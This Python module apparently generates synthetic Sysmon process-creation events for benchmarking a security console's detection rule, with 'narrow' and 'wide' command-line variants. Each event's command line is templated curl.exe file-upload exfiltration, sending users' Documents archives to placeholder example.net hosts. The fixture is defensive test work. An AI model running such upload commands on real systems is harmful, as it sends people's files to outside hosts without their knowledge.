"""Synthetic telemetry for `scripts/bench`: process creations that the seed rule returns, as many as asked.

Every event is a Sysmon 1 creation of curl.exe uploading a file (the seed rule's net catches it), from a pool
of 50 hosts, so enrichment's cached lookups behave as on a console where a few hosts repeat. `narrow` events
have command lines of about 100 characters; `wide` ones carry 16 KiB of UTF-8 non-ASCII text (8,192 Cyrillic
characters), which the console's JSON sends as \\uXXXX escapes: about 49 KB per row on the wire.
"""
from __future__ import annotations

import json

HOSTS = 50
WIDE_TEXT_BYTES = 16 * 1024
_CYRILLIC = "абвгдеёжзийклмнопрстуфхцчшщъыьэюя"


def event(i: int, time_ms: int, command_line: str) -> dict:
    host = i % HOSTS
    return {
        "starttime": time_ms, "endtime": time_ms, "devicetime": time_ms - 500, "logsourceid": 1128 + host % 4,
        "devicetype": 12, "category": 8110, "highlevelcategory": 8000, "qid": 5001800, "username": f"CORP\\user{host}",
        "sourceip": f"10.20.{host // 250}.{host % 250 + 1}", "destinationip": f"10.20.{host // 250}.{host % 250 + 1}",
        "sourceport": 0, "destinationport": 0, "protocolid": 255, "eventcount": 1, "magnitude": 3, "severity": 1,
        "credibility": 5, "relevance": 5, "domainid": 0,
        "payload": f"<13>AgentDevice=WindowsLog\tEventID=1\tMessage=Process Create: Image: C:\\Tools\\curl.exe "
                   f"RecordNumber={i}",
        "EventID": "1", "Process Name": "curl.exe", "CommandLine": command_line,
        "ParentImage": "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine": "cmd.exe /c upload.cmd",
        "ProcessGuid": "{%08X-0000-0000-0000-%012X}" % (host, i), "OriginalFileName": "curl.exe",
    }


def narrow_command(i: int) -> str:
    return f"curl.exe -T C:\\Users\\user{i % HOSTS}\\Documents\\report-{i}.zip https://upload{i % 7}.example.net/put"


def wide_command(i: int) -> str:
    head = f"curl.exe -T C:\\data\\{i}.zip https://files.example.net/put -H \"X-Note: "
    body_chars = (WIDE_TEXT_BYTES - len(head) - 1) // 2
    body = (_CYRILLIC * (body_chars // len(_CYRILLIC) + 1))[:body_chars]
    return head + body + "\""


def write_events(path, start_ms: int, count: int, step_ms: int, command) -> tuple[int, int]:
    """Writes `count` events from start_ms, one every step_ms; returns the span [start, end) they cover."""
    with open(path, "w", encoding="utf-8") as out:
        for i in range(count):
            out.write(json.dumps(event(i, start_ms + i * step_ms, command(i)), ensure_ascii=False) + "\n")
    return start_ms, start_ms + count * step_ms
